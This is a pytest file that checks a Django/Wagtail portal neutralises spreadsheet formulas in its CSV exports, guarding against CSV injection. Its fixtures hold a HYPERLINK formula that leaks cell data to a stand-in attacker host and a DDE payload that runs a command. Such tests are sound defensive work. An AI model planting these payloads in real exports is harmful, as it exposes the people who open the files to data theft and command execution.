"""Every CSV export hands text that people typed to a spreadsheet as text, never as a
formula (OWASP "CSV Injection")."""

import csv
import io

from django.urls import reverse

import pytest

from catalogue.models import CatalogueEntryPage
from network import services as network_services
from network.maturity import Dimension
from portal.workshops import services
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def cells(response) -> list[str]:
    return [cell for row in csv_rows(response) for cell in row]


@pytest.mark.parametrize(
    "value,shown",
    [
        ("=1+1", "'=1+1"),
        ("+41 22 338 91 11", "'+41 22 338 91 11"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Plain answer = fine", "Plain answer = fine"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_text_that_would_start_a_formula_is_quoted(value, shown):
    from portal.exports import neutralise_formula

    assert neutralise_formula(value) == shown


def test_a_registration_answer_reaches_the_participants_csv_as_text(as_role, site_tree, cast):
    workshop = factories.WorkshopPageFactory(parent=site_tree.workshops, slug="dialogue")
    question = factories.RegistrationQuestionFactory(
        page=workshop, label="Dietary needs", kind="text"
    )
    services.registration_create(
        workshop=workshop, user=cast.cio_a, answers={str(question.pk): HYPERLINK}
    )
    response = as_role("secretariat").get(workshop.url + "participants/export/")
    rows = csv_rows(response)
    assert rows[1][-1] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_catalogue_entry_reaches_the_catalogue_csv_as_text(client, site_tree, cast):
    entry = factories.CatalogueEntryPageFactory(
        parent=site_tree.catalogue,
        title="@SUM(1+1)*cmd|' /C calc'!A0",
        summary=HYPERLINK,
        provider_offices=[cast.office_a],
    )
    assert CatalogueEntryPage.objects.live().filter(pk=entry.pk).exists()
    row = dict(zip(*csv_rows(client.get("/catalogue/export/csv/")), strict=False))
    assert row["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["summary"] == "'" + HYPERLINK


def test_an_assessment_comment_reaches_the_assessments_csv_as_text(client, cast):
    assessment = network_services.assessment_for(office=cast.office_a, year=2026)
    answers = {
        dimension.value: network_services.AnswerData(score=3, comment=HYPERLINK)
        for dimension in Dimension
    }
    network_services.assessment_save(
        assessment=assessment, answers=answers, submit=True, user=cast.cio_a
    )
    client.force_login(cast.secretariat)
    header, row = csv_rows(client.get("/network/assessments/export/"))
    comment = row[header.index(f"{Dimension.CLOUD.value}_comment")]
    assert comment == "'" + HYPERLINK
    assert row[header.index(f"{Dimension.CLOUD.value}_score")] == "3"


def test_a_page_title_reaches_the_admins_own_report_csv_as_text(editor_client, site_tree):
    page = factories.StandardPageFactory(parent=site_tree.about, title=HYPERLINK, slug="trap")
    page.locked = True
    page.locked_by = editor_client.user
    page.save()
    response = editor_client.get(reverse("wagtailadmin_reports:locked_pages") + "?export=csv")
    header, *rows = csv_rows(response)
    assert rows
    title = rows[0][header.index("Title")]
    assert title == "'" + HYPERLINK
